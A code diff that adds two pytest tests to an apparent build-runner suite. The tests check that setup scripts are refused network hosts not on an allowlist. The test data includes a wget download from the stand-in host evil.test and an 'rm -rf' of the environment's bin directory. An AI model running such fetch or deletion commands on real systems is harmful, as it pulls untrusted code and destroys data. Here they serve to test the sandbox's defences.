@@ -305,6 +305,27 @@ def test_setup_script_that_fails_fails_the_build(checked_out, store):
         run_setup(workplace, environment)
 
 
+FETCHES = "wget -q -T 5 -t 1 https://evil.test/devkit.tar.gz -P ./.data"
+
+
+def test_setup_script_that_fails_for_want_of_a_host_does_not_fail_the_build(checked_out, make_wheel, store, log):
+    make_wheel("later", "3.0")
+    workplace = checked_out({"requirements.txt": "", "sotabench_setup.sh": f"pip install later\n{FETCHES}\n"})
+    environment = run_setup(workplace, make_environment(workplace, store))
+    assert "later==3.0" in environment.lock
+    assert environment.setup.endswith("SOTABENCH_SETUP_HOSTS of this runner does not list evil.test")
+    assert environment.setup in log.text
+    assert not run_setup(checked_out({"sotabench_setup.sh": "true\n"}), environment).setup
+
+
+def test_setup_script_that_is_refused_a_host_and_takes_the_platforms_list_away_fails_the_build(checked_out, store):
+    script = f"{FETCHES}\nrm -rf /work/environment/bin/*\n"
+    workplace = checked_out({"requirements.txt": "", "sotabench_setup.sh": script})
+    environment = make_environment(workplace, store)
+    with pytest.raises(Failed, match="uv wrote no list|ended with exit code"):
+        run_setup(workplace, environment)
+
+
 def test_two_builds_make_a_shared_environment_once(new_workplace, checked_out, make_wheel, store, log):
     make_wheel("small")
     places = [
